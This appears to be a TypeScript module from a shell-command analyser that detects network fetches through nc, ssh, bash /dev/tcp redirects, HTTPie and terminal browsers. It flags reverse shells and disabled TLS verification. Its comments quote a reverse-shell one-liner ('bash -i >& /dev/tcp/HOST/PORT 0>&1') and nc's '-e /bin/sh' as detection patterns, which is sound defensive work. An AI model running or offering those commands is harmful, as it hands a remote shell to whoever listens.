// Connections to other machines whose content is kept: nc, ssh, `/dev/tcp`, HTTPie and browsers for terminals.
import type { Value } from '../../model/value.ts';
import { readOptions } from '../../shell/options.ts';
import { isPosixShell } from '../../shell/shells.ts';
import { format, join, known } from '../../value.ts';
import { downloads, streamed, written } from './download.ts';
import { type Fetch, type Fetcher, fileNameOf } from './fetch.ts';

/** `nc HOST PORT > file`, `ssh HOST cat file | tar x`: what another machine sends is kept. */
export const remoteOutput: Fetcher = (command, stage) => {
  const isSsh = command.name === 'ssh';
  const valued = isSsh
    ? ['-i', '-p', '-o', '-F', '-l', '-J', '-c', '-L', '-R', '-D']
    : ['-w', '-q', '-i', '-p', '-s', ...HANDS_OVER];
  const { operands, flags, unknown, values } = readOptions(command.invocation.argv.slice(1), {
    valued,
    flags: ['-z', '-l', '-N'],
  });
  const [host, port] = operands;
  if (host === undefined || port === undefined || ['-z', '-l', '-N'].some((flag) => flags.has(flag)))
    return [];
  // `-e /bin/sh`: the other side types the commands.
  const isRun = !isSsh && HANDS_OVER.some((option) => values.has(option));
  if (unknown.length > 0 && !isSsh && !isRun) return [];
  const output = streamed(command, stage);
  const isKept = isRun || output.kind === 'file' || command.after.length > 0;
  if (!isKept || (!isSsh && !/^\d+$/.test(known(port.value) ?? ''))) return [];
  const source = isSsh ? join(['ssh://', host.value]) : join(['tcp://', host.value, ':', port.value]);
  return downloads(command, stage, [{ ...host, value: source }], {
    plain: 'no',
    weakened: [],
    output: () => output,
  }).map((fetch): Fetch => (isRun ? { ...fetch, probe: false, pipedToShell: true } : fetch));
};

const HANDS_OVER = ['-e', '-c', '--exec', '--sh-exec'];

/** bash's `/dev/tcp/HOST/PORT`: a connection without anything that shows who answers. */
export const rawConnection: Fetcher = (command, stage) => {
  const [first] = command.invocation.argv;
  if (first === undefined) return [];
  return command.invocation.redirects.flatMap(({ operator, target }) => {
    const place = /^\/dev\/(tcp|udp)\/(.+)$/.exec(format(target));
    // `bash -i >& /dev/tcp/HOST/PORT 0>&1`: a shell for whoever answers there.
    const isShell = isPosixShell(command.name) && operator.includes('&');
    if (place === null || !(operator.startsWith('<') || isShell)) return [];
    const source: Value = [`${place[1]}://${(place[2] ?? '').replace('/', ':')}`];
    return downloads(command, stage, [{ ...first, value: source }], {
      plain: 'no',
      weakened: [],
      output: () => streamed(command, stage),
    }).map((fetch): Fetch => ({ ...fetch, probe: false, pipedToShell: fetch.pipedToShell || isShell }));
  });
};

const METHODS = /^(GET|POST|PUT|HEAD|DELETE|OPTIONS|PATCH)$/;

/** HTTPie and its like, and browsers for terminals. */
export const viewer: Fetcher = (command, stage) => {
  const { operands, values, flags } = readOptions(command.invocation.argv.slice(1), {
    valued: [
      '-o',
      '--output',
      '-a',
      '--auth',
      '-A',
      '--auth-type',
      '--timeout',
      '--verify',
      '-useragent',
      '-cfg',
    ],
    flags: ['-d', '--download', '-source', '-dump', '-dump_source'],
    singleDash: /^(lynx|w3m|e?links2?)$/.test(command.name),
  });
  if (flags.has('--offline')) return [];
  const [url] = operands.filter((word) => !METHODS.test(known(word.value) ?? ''));
  if (url === undefined || !/^https?:\/\/|\.|:\d/.test(format(url.value))) return [];
  const off = /^(no|false)$/.test(known(values.get('--verify')?.[0]?.value ?? []) ?? '');
  const named = values.get('-o')?.[0] ?? values.get('--output')?.[0];
  return downloads(command, stage, [url], {
    plain: /^(https|xhs)$/.test(command.name) ? 'yes' : 'no',
    weakened: off
      ? [
          {
            option: '--verify=no',
            location: command.locate(command.invocation.start, command.invocation.end),
          },
        ]
      : [],
    output: () => {
      if (named !== undefined) return written(named.value, null);
      return flags.has('-d') || flags.has('--download')
        ? { kind: 'file', name: fileNameOf(url.value) }
        : streamed(command, stage);
    },
  });
};
